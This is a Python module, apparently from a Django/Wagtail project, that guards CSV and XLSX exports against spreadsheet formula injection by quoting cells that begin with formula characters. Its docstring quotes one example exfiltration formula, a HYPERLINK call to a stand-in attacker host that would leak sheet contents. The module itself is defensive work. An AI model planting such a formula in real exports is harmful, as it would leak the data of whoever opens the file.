"""Cells for every CSV and XLSX file Storybridge writes: the one place formulas are neutralised.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage
return before one of them) as a formula, so a narrative title or an organisation name typed as
`=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet when an educator opens an export.
OWASP's advice, followed here: prefix such text with a single quote, which spreadsheet programs
show as text and do not evaluate. Numbers, dates and None pass through unchanged, so negative
numbers stay numbers.

Every export goes through this module: Wagtail index and report views with `list_export` take
`NeutralisedExportMixin` (tests/test_spreadsheet_exports.py fails for one that does not), and
our own files are written with `csv_lines` and `write_xlsx`.
"""

import csv

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value):
    """`value` as it may go into a spreadsheet cell: text that a spreadsheet would evaluate is
    prefixed with a single quote; anything that is not text is returned as it is."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values):
    """A row (any iterable of cell values) with every cell neutralised, as a list."""
    return [neutralise(value) for value in values]


class _Echo:
    """A file that hands back what is written to it, for streaming CSV line by line."""

    def write(self, value):
        return value


def csv_lines(header, rows):
    """A CSV file as text, one line at a time (for a StreamingHttpResponse): the header, then
    each row (an iterable of cells), every cell neutralised."""
    writer = csv.writer(_Echo())
    yield writer.writerow(neutralise_row(header))
    for row in rows:
        yield writer.writerow(neutralise_row(row))


def write_xlsx(output, header, rows, title):
    """Write an XLSX workbook of one sheet named `title` to `output`, a binary file: the
    header, then each row, every cell neutralised and none stored as a formula. openpyxl's
    write-only mode, so rows are not kept in memory."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=str(title))

    def cells(values):
        for value in neutralise_row(values):
            cell = WriteOnlyCell(sheet, value)
            if cell.data_type == "f":  # never a formula, whatever slipped through
                cell.data_type = "s"
            yield cell

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    workbook.save(output)


class NeutralisedExportMixin:
    """For a Wagtail index or report view (anything with Wagtail's SpreadsheetExportMixin): every
    heading and cell of its CSV and XLSX exports goes through `neutralise`. Wagtail itself
    neutralises nothing in CSV, and in XLSX only stores a formula as text, which a spreadsheet
    still runs once someone edits the cell or saves the sheet as CSV. Put it first in the
    bases: `class IndexView(NeutralisedExportMixin, snippets.IndexView)`."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        return neutralise(super().get_heading(queryset, field))
